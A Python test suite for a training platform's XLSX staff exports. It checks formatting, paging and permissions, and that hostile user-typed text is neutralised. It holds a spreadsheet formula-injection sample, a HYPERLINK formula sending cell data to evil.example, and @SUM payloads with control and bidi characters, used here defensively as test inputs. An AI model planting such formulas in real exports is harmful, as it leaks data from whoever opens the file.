"""The staff's XLSX exports through the HTTP API (chalice test client, real tokens), opened
with openpyxl as Excel would: Chinese headers, amounts in 元 as numbers formatted 0.00,
Beijing times as dates, the Chinese file name (RFC 5987), paging past one query page, and
every user-typed cell inert however hostile (a formula, control and bidi characters)."""
from __future__ import annotations

import re
from datetime import datetime
from decimal import Decimal
from io import BytesIO
from typing import Any
from urllib.parse import unquote

import pytest

from chalicelib.platform.clock import UTC
from chalicelib.platform.store.base import new_id

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
PAID_AT = datetime(2026, 4, 8, 7, 30, tzinfo=UTC)  # 2026-04-08 15:30 in Beijing
NAMES = ("registrations", "payments", "refunds", "invoices", "certificates")


def hostile(tag: str) -> str:
    """A different hostile text per field, so a test can tell which cell it came from."""
    return f"@SUM(1+1)\x07{tag}\u202e"


def inert(tag: str) -> str:
    return f"'@SUM(1+1){tag}"


def open_sheet(r: Any) -> tuple[list[str], list[list[Any]], Any]:
    from openpyxl import load_workbook
    assert r.status_code == 200, r.body[:300]
    assert r.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    ws = load_workbook(BytesIO(r.body)).worksheets[0]
    rows = list(ws.iter_rows())
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not CONTROL.search(cell.value), (cell.coordinate, cell.value)
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    return [c.value for c in rows[0]], rows[1:], ws


def by_header(header: list[str], row: list[Any]) -> dict[str, Any]:
    return dict(zip(header, row, strict=True))


@pytest.fixture
def hostile_records(api: Any, deps: Any, clock: Any) -> dict[str, str]:
    """One registration, order, payment, refund, invoice and certificate of the 2026
    edition, hostile text in every field a person (or a provider) typed."""
    from chalicelib.billing.repository import Order, Payment, Refund, disposition_key, order_queue
    from chalicelib.certificates.repository import Certificate
    from chalicelib.invoicing.repository import Invoice
    from chalicelib.learning.repository import QuestionnaireResponse
    from chalicelib.registration.repository import Registration
    _, token = api.signup(name="李玥")
    reg = api.register(token).data
    rid = reg["registration_id"]
    api.post(f"/admin/registrations/{rid}/approve", api.staff("reviewer"))
    Registration.get(rid).update(actions=[
        Registration.name.set(hostile("name")), Registration.unit_name.set(hostile("unit")),
        Registration.job_title.set(hostile("job")), Registration.region.set(hostile("region")),
        Registration.phone.set(hostile("phone")), Registration.email.set(hostile("email")),
        Registration.reject_reason.set(hostile("reason")),
        Registration.paid_order_id.set(hostile("order")), Registration.paid_at.set(PAID_AT)])
    oid, pid = new_id("O"), new_id("P")
    Order(order_id=oid, edition_id="2026", kind="individual", channel="bank_transfer",
          owner_sub="sub-x", registration_ids=[rid], amount_fen=49000, status="paid",
          official_card=True, unit_name=hostile("ounit"), payer_name=hostile("payer"),
          memo=hostile("memo"), created_at=PAID_AT, paid_at=PAID_AT, payment_id=pid,
          queue=order_queue("2026", "paid", "bank_transfer")).save()
    Payment(payment_id=pid, order_id=oid, edition_id="2026", channel="bank_transfer",
            provider_txn_id=hostile("serial"), amount_fen=49000, disposition="credited",
            registration_ids=[rid], received_at=PAID_AT, actor=hostile("actor"),
            payer={"payer_name": hostile("pname"), "payer_account": hostile("pacct")},
            edition_disposition=disposition_key("2026", "credited")).save()
    Refund(refund_id=new_id("F"), payment_id=pid, order_id=oid, edition_id="2026",
           registration_id=rid, channel="bank_transfer", provider_txn_id="T1", amount_fen=49000,
           payment_amount_fen=49000, kind="request", status="failed", reason=hostile("why"),
           requested_by="sub-x", requested_at=PAID_AT, failure=hostile("fail"),
           bank_serial=hostile("rserial"), queue="2026#failed").save()
    Invoice(invoice_id=new_id("I"), invoice_no="LSC2026-000001", series="LSC2026", seq=1,
            kind="blue", status="issued", order_id=oid, order_kind="individual",
            edition_id="2026", owner_sub="sub-x", buyer_type="unit", title=hostile("title"),
            credit_code=hostile("code"), item=hostile("item"), amount_fen=49000,
            channel="bank_transfer", paid_at=PAID_AT, issued_at=PAID_AT, issued_by="finance",
            issuer="fake", pdf_key="k", external_no=hostile("extno"),
            reason=hostile("ireason")).save()
    QuestionnaireResponse(registration_id=rid, edition_id="2026", user_sub="sub-x",
                          name="x", unit_name="x", email="x@example.com", answers={},
                          submitted_at=PAID_AT, certificate_no="LSC-2026-000001",
                          certificate_state="issued").save()
    Certificate(certificate_no="LSC-2026-000001", edition_id="2026", edition_title="2026",
                registration_id=rid, user_sub="sub-x", holder_name=hostile("holder"),
                unit_name=hostile("cunit"), hours=30, learning_from=PAID_AT,
                learning_to=PAID_AT, issued_at=PAID_AT, status="revoked", revoked_at=PAID_AT,
                revoked_by="admin", revoke_reason=hostile("revoke"), pdf_key="k",
                pdf_state="stored").save()
    return {"registration_id": rid, "order_id": oid, "payment_id": pid}


def test_registrations_export_headers_a_row_and_hostile_cells(api, hostile_records):
    r = api.get("/admin/exports/registrations", api.staff("finance"), headers={"Accept": "*/*"})
    header, rows, ws = open_sheet(r)
    assert header[:4] == ["报名编号", "姓名", "单位", "职务"] and "应交费用（元）" in header
    row = next(by_header(header, [c.value for c in x]) for x in rows
               if x[0].value == hostile_records["registration_id"])
    for field, tag in (("姓名", "name"), ("单位", "unit"), ("职务", "job"), ("地区", "region"),
                       ("手机号", "phone"), ("邮箱", "email"), ("驳回原因", "reason"),
                       ("交费订单号", "order")):
        assert row[field] == inert(tag), field
    assert row["应交费用（元）"] == 490 and row["会员类别"] == "非会员"
    assert row["报名状态"] == "报名成功"
    # a Beijing wall-clock date-time Excel can sort, shown as 2026-04-08 15:30
    assert row["交费时间（北京时间）"] == datetime(2026, 4, 8, 15, 30)
    fee = next(c for c in next(x for x in rows if x[0].value == hostile_records["registration_id"])
               if c.column == header.index("应交费用（元）") + 1)
    assert fee.number_format == "0.00" and fee.data_type == "n"
    assert ws.freeze_panes == "A2"
    # The Chinese file name, RFC 5987-encoded, with an ASCII fallback
    disposition = r.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="registrations-2026-')
    chinese = unquote(disposition.split("filename*=UTF-8''")[1])
    assert chinese.startswith("报名名单-2026-") and chinese.endswith(".xlsx")


def test_payments_export_joins_the_order_and_neutralises_the_payer(api, hostile_records):
    header, rows, _ = open_sheet(api.get("/admin/exports/payments", api.staff("admin"),
                                         headers={"Accept": "*/*"}))
    assert header[:5] == ["交易编号", "订单号", "渠道", "渠道流水号 / 银行流水号", "到账金额（元）"]
    row = next(by_header(header, [c.value for c in x]) for x in rows
               if x[0].value == hostile_records["payment_id"])
    assert row["到账金额（元）"] == Decimal("490") and row["渠道"] == "银行转账"
    assert row["入账情况"] == "已入账" and row["公务卡"] == "是" and row["报名人数"] == 1
    assert row["到账时间（北京时间）"] == datetime(2026, 4, 8, 15, 30)
    for field, tag in (("渠道流水号 / 银行流水号", "serial"), ("付款人", "payer"),
                       ("单位", "ounit"), ("对方户名", "pname"), ("对方账号", "pacct"),
                       ("经办", "actor")):
        assert row[field] == inert(tag), field


def test_refunds_invoices_and_certificates_exports_hold_hostile_text_inert(api, hostile_records):
    finance = api.staff("finance")
    header, rows, _ = open_sheet(api.get("/admin/exports/refunds", finance, headers={"Accept": "*/*"}))
    row = by_header(header, [c.value for c in rows[0]])
    assert row["退款金额（元）"] == 490 and row["状态"] == "失败" and row["类型"] == "学员申请"
    for field, tag in (("原因", "why"), ("失败原因", "fail"), ("退款流水号", "rserial"),
                       ("付款人", "payer"), ("单位", "ounit")):
        assert row[field] == inert(tag), field

    header, rows, _ = open_sheet(api.get("/admin/exports/invoices", finance, headers={"Accept": "*/*"}))
    row = by_header(header, [c.value for c in rows[0]])
    assert row["发票编号"] == "LSC2026-000001" and row["种类"] == "蓝字发票"
    assert row["金额（元）"] == 490 and row["购买方类型"] == "单位"
    for field, tag in (("抬头", "title"), ("纳税人识别号", "code"), ("项目", "item"),
                       ("发票号码", "extno"), ("红冲原因", "ireason")):
        assert row[field] == inert(tag), field

    header, rows, _ = open_sheet(api.get("/admin/exports/certificates", finance,
                                         headers={"Accept": "*/*"}))
    row = by_header(header, [c.value for c in rows[0]])
    assert row["证书编号"] == "LSC-2026-000001" and row["状态"] == "已撤销" and row["学时"] == 30
    for field, tag in (("姓名", "holder"), ("单位", "cunit"), ("撤销原因", "revoke")):
        assert row[field] == inert(tag), field


def test_a_big_edition_pages_through_every_query_page(api, deps, monkeypatch):
    # Given more registrations than one query page holds (the page made small)
    from chalicelib.reports import exports
    monkeypatch.setattr(exports, "PAGE", 2)
    ids = {api.register(api.signup(name=f"学员{i}")[1]).data["registration_id"] for i in range(5)}
    # When finance exports them
    _, rows, _ = open_sheet(api.get("/admin/exports/registrations", api.staff("finance"),
                                    headers={"Accept": "*/*"}))
    # Then every one is there, once
    got = [x[0].value for x in rows]
    assert ids <= set(got) and len(got) == len(set(got))


def test_exports_are_for_finance_and_admins_and_unknown_names_are_404(api):
    _, trainee = api.signup(name="甲")
    assert api.get("/admin/exports/registrations", trainee).status_code == 403
    assert api.get("/admin/exports/registrations", api.staff("reviewer")).status_code == 403
    r = api.get("/admin/exports/nothing", api.staff("finance"))
    assert r.status_code == 404 and r.data["Code"] == "EXPORT_NOT_FOUND"
    for name in NAMES:  # an empty edition still gives a workbook with its header
        header, rows, _ = open_sheet(api.get(f"/admin/exports/{name}?edition_id=2026",
                                             api.staff("admin"), headers={"Accept": "*/*"}))
        assert header and all(isinstance(h, str) and h for h in header)
